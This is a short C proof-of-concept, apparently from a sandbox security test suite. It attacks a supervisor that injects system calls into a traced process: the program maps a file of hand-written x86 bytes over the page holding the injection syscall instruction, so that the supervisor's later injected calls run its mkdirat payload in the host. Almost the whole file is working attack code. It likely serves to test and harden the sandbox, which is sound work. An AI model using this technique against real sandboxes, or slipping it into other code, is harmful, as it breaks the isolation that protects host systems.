/*
 * Injection hijack by MAP_FIXED: map a file whose bytes are our code over
 * the page holding the very `syscall` instruction that asks for the mapping.
 * If the supervisor issues its later injected calls from that instruction,
 * the host runs our mkdirat(argv[1]) instead.
 */
#include "attack.h"

#define GADGET 64

int main(int argc, char **argv)
{
    uint8_t *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                         MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint8_t evil[4096] = {0};
    if (page == MAP_FAILED)
        return 2;
    memcpy(page + GADGET, "\x0f\x05\xc3", 3);          /* syscall; ret */
    /* the file: our payload at 0, and where the syscall was, jmp to it; ret after */
    put_mkdir_payload(evil, argv[1], 1);
    evil[GADGET] = 0xeb;
    evil[GADGET + 1] = (uint8_t)(0 - (GADGET + 2));
    evil[GADGET + 2] = 0xc3;
    const char *file = argc > 2 ? argv[2] : "/tmp/evil-code";
    int fd = open(file, O_RDWR | O_CREAT | O_TRUNC, 0755);
    if (fd < 0 || write(fd, evil, sizeof evil) != sizeof evil)
        return 3;
    long r = call_gadget(page + GADGET, SYS_mmap, (long)page, 4096, PROT_READ | PROT_EXEC,
                         MAP_PRIVATE | MAP_FIXED, fd, 0);
    printf("mmap over our own syscall: %s\n", r == (long)page ? "mapped" : strerror(-r));
    return 0;
}
